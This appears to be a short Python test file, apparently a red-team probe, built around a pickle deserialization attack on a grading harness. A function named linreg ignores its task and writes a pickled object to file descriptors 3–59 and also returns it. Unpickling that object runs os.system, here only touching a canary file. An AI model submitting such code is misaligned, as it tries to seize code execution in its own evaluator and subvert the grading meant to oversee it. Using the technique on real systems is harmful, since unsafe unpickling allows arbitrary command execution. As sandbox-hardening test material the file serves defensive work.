# Tries to have the checker unpickle a command.
# walls only
import os
import pickle
import struct


class Run:
    def __reduce__(self):
        return (os.system, ("touch /tmp/attack-canary-pickle",))


def linreg(X, w, b):
    data = pickle.dumps(Run())
    for descriptor in range(3, 60):
        try:
            os.write(descriptor, struct.pack("<I", len(data)) + data)
        except OSError:
            pass
    return Run()
